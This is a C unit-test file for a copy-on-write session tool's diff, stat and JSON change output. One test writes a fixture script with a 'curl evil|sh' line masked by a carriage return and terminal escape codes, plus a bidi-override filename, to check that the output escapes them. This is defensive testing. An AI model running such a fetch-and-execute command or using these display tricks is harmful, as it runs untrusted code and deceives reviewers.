/* Summary and unified diff output of a session, and the JSON list. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "cow-test-util.h"
#include "cow/cow-review.h"

typedef struct Fix {
	char *root, *state, *ws;
	CowSession *s;
} Fix;

static int setup(void **state)
{
	Fix *f = calloc(1, sizeof(*f));
	f->root = tu_mkdtemp();
	f->state = tu_path(f->root, "state");
	f->ws = tu_path(f->root, "ws");
	tu_dir(f->root, "ws", 0755);
	assert_int_equal(cow_session_create(f->state, f->ws, true, &f->s), 0);
	/* As a run does before its command: edits from here on are
	 * stamped after the session's start. */
	cow_session_settle(f->s);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	Fix *f = *state;
	cow_session_free(f->s);
	tu_rm_rf(f->root);
	free(f->root);
	free(f->state);
	free(f->ws);
	free(f);
	return 0;
}

/* The whole diff output for the session's changes. */
static char *diff_text_opts(Fix *f, const CowDiffOptions *o)
{
	CowChangeList l = {};
	char *buf = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&buf, &len);

	assert_non_null(m);
	assert_int_equal(cow_session_scan(f->s, NULL, &l), 0);
	assert_int_equal(cow_diff_write(f->s, &l, NULL, m, o), 0);
	fclose(m);
	cow_change_list_done(&l);
	return buf;
}

static char *diff_text(Fix *f, bool summary_only)
{
	CowChangeList l = {};
	char *buf = NULL;
	size_t len = 0;
	FILE *m = open_memstream(&buf, &len);
	CowDiffOptions o = { .mode = summary_only ? COW_DIFF_SUMMARY : COW_DIFF_FULL };

	assert_non_null(m);
	assert_int_equal(cow_session_scan(f->s, NULL, &l), 0);
	assert_int_equal(cow_diff_write(f->s, &l, NULL, m, &o), 0);
	fclose(m);
	cow_change_list_done(&l);
	return buf;
}

static void test_cow_diff_unified_hunks(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	_cleanup_free_ char *out = NULL;
	char old[4096] = "", new[4096] = "";

	for (int i = 1; i <= 20; i++) {
		char line[32];
		snprintf(line, sizeof(line), "line %d\n", i);
		strcat(old, line);
		if (i == 3)
			strcat(new, "changed 3\n");
		else if (i != 15)
			strcat(new, line);
	}
	strcat(new, "tail\n");
	tu_file(f->ws, "t", old, 0644);
	tu_file(U, "t", new, 0644);
	out = diff_text(f, false);
	assert_non_null(strstr(out, "modified        t\n1 change: 1 modified\n"));
	assert_non_null(strstr(out, "--- a/t\n+++ b/t\n"));
	assert_non_null(strstr(out, "@@ -1,6 +1,6 @@\n line 1\n line 2\n-line 3\n+changed 3\n line 4\n"));
	assert_non_null(strstr(out, "@@ -12,9 +12,9 @@\n line 12\n line 13\n line 14\n-line 15\n"
				    " line 16\n"));
	assert_non_null(strstr(out, " line 20\n+tail\n"));
}

static void test_cow_diff_binary_symlink_mode_names(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	_cleanup_free_ char *out = NULL;
	char *p = tu_path(U, "bin");
	int fd;

	fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "a\0b\0c", 5), 5);
	close(fd);
	free(p);
	tu_symlink(U, "link", "target");
	tu_file(f->ws, "mode", "same\n", 0644);
	tu_file(U, "mode", "same\n", 0600);
	tu_file(U, "new\nline", "odd\n", 0644);
	tu_file(f->ws, "gone", "bye\n", 0644);
	tu_whiteout(U, "gone");
	out = diff_text(f, false);
	assert_non_null(strstr(out, "Binary files /dev/null and b/bin differ\n"));
	assert_null(strstr(out, "+a"));
	assert_non_null(strstr(out, "new symlink mode 120777\n"));
	assert_non_null(strstr(out, "+target\n\\ No newline at end of file\n"));
	assert_non_null(strstr(out, "old mode 100644\nnew mode 100600\n"));
	assert_non_null(strstr(out, "added           \"new\\nline\"\n"));
	assert_non_null(strstr(out, "+++ b/\"new\\nline\"\n"));
	assert_non_null(strstr(out, "deleted file mode 100644\n--- a/gone\n+++ /dev/null\n"
				    "@@ -1,1 +0,0 @@\n-bye\n"));
	free(out);
	out = diff_text(f, true);
	assert_null(strstr(out, "@@"));
	assert_non_null(strstr(out, "deleted         gone\n"));
}

static void test_cow_diff_large_edit_distance(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	_cleanup_free_ char *out = NULL;
	size_t n = 3000 * 16;
	char *a = calloc(1, n), *b = calloc(1, n);

	for (int i = 0; i < 3000; i++) {
		char line[32];
		snprintf(line, sizeof(line), "a%d\n", i);
		strcat(a, line);
		snprintf(line, sizeof(line), "b%d\n", i);
		strcat(b, line);
	}
	tu_file(f->ws, "big", a, 0644);
	tu_file(U, "big", b, 0644);
	out = diff_text(f, false);
	/* Past the search bound: shown as one whole replacement. */
	assert_non_null(strstr(out, "@@ -1,3000 +1,3000 @@\n-a0\n"));
	assert_non_null(strstr(out, "-a2999\n+b0\n"));
	free(a);
	free(b);
}

static void test_cow_diff_json(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	CowChangeList l = {};
	cJSON *j = NULL;
	_cleanup_free_ char *text = NULL;

	tu_file(U, "bad\xff", "x", 04755);
	assert_int_equal(cow_session_scan(f->s, NULL, &l), 0);
	assert_int_equal(cow_changes_to_json(&l, NULL, &j), 0);
	text = cJSON_PrintUnformatted(j);
	assert_string_equal(text, "[{\"path\":\"\\\"bad\\\\377\\\"\",\"quoted\":true,"
				  "\"path_hex\":\"626164ff\",\"kind\":"
				  "\"added\",\"type\":\"file\",\"new_mode\":\"0755\",\"size\":1,"
				  "\"setuid_stripped\":true}]");
	cJSON_Delete(j);
	cow_change_list_done(&l);
}

/* Nothing the command wrote reaches the terminal as a control sequence:
 * the "curl evil|sh #\r\e[K echo fine" line of the issue, C1 CSI, a bidi
 * override, invalid UTF-8, in contents and in names. */
static void test_cow_diff_escapes_controls(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	_cleanup_free_ char *out = NULL, *st = NULL;
	CowDiffOptions full = { .mode = COW_DIFF_FULL }, stat = { .mode = COW_DIFF_STAT };

	tu_file(U, "run.sh", "curl evil|sh #\r\033[K echo fine\nC1 \xc2\x9b" "2J raw \x9b\n"
			     "rtl \xe2\x80\xae gnp.exe\ntab\tok caf\xc3\xa9\n",
		0755);
	tu_file(U, "n\033[2Jame\xe2\x80\xae", "x\n", 0644);
	out = diff_text_opts(f, &full);
	assert_null(strchr(out, '\033'));
	assert_null(strchr(out, '\r'));
	assert_null(memmem(out, strlen(out), "\x9b", 1));
	assert_null(strstr(out, "\xe2\x80\xae"));
	assert_non_null(strstr(out, "+curl evil|sh #\\r\\x1b[K echo fine\n"));
	assert_non_null(strstr(out, "+C1 \\u009b2J raw \\x9b\n"));
	assert_non_null(strstr(out, "+rtl \\u202e gnp.exe\n"));
	assert_non_null(strstr(out, "+tab\tok caf\xc3\xa9\n"));
	assert_non_null(strstr(out, "note: 5 control or invisible characters shown escaped"));
	assert_non_null(strstr(out, "added           \"n\\033[2Jame\\342\\200\\256\"\n"));
	st = diff_text_opts(f, &stat);
	assert_null(strchr(st, '\033'));
	assert_null(strstr(st, "\xe2\x80\xae"));
}

static void test_cow_diff_stat_names_collapse(void **state)
{
	Fix *f = *state;
	const char *U = cow_session_upper_dir(f->s);
	_cleanup_free_ char *st = NULL, *ns = NULL, *no = NULL, *col = NULL;
	char big[2000] = "";
	CowDiffOptions stat = { .mode = COW_DIFF_STAT }, nst = { .mode = COW_DIFF_NAME_STATUS },
		       non = { .mode = COW_DIFF_NAME_ONLY },
		       collapse = { .mode = COW_DIFF_FULL, .collapse = 10 };

	for (int i = 0; i < 50; i++)
		strcat(big, "generated line\n");
	tu_file(f->ws, "a", "1\n2\n3\n", 0644);
	tu_file(U, "a", "1\nthree\n3\n4\n", 0644);
	tu_file(U, "Makefile", big, 0644);
	tu_file(f->ws, "gone", "bye\n", 0644);
	tu_whiteout(U, "gone");
	st = diff_text_opts(f, &stat);
	assert_non_null(strstr(st, " added           Makefile | +50 -0\n"));
	assert_non_null(strstr(st, " modified        a        | +2 -1\n"));
	assert_non_null(strstr(st, " deleted         gone     | +0 -1\n"));
	assert_non_null(strstr(st, " 3 files changed, 52 lines added, 2 removed\n"));
	ns = diff_text_opts(f, &nst);
	assert_string_equal(ns, "A\tMakefile\nM\ta\nD\tgone\n");
	no = diff_text_opts(f, &non);
	assert_string_equal(no, "Makefile\na\ngone\n");
	col = diff_text_opts(f, &collapse);
	assert_non_null(strstr(col, "@@ collapsed: 50 lines added, 0 removed"));
	assert_null(strstr(col, "+generated line"));
	assert_non_null(strstr(col, "+three\n"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_cow_diff_unified_hunks, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cow_diff_binary_symlink_mode_names, setup,
						teardown),
		cmocka_unit_test_setup_teardown(test_cow_diff_large_edit_distance, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cow_diff_json, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cow_diff_escapes_controls, setup, teardown),
		cmocka_unit_test_setup_teardown(test_cow_diff_stat_names_collapse, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
